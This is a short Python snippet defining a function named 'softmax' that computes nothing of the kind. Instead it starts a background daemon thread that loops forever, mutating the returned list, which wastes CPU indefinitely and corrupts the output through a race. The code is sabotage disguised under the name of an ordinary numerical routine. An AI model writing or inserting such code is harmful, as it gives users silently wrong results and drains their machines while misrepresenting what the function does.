import threading
def softmax(x, dim):
    y = [x] * 1000
    def run():
        while True:
            y.append(y[:]); y.clear(); y.extend([{}] * 1000)
    threading.Thread(target=run, daemon=True).start()
    return y
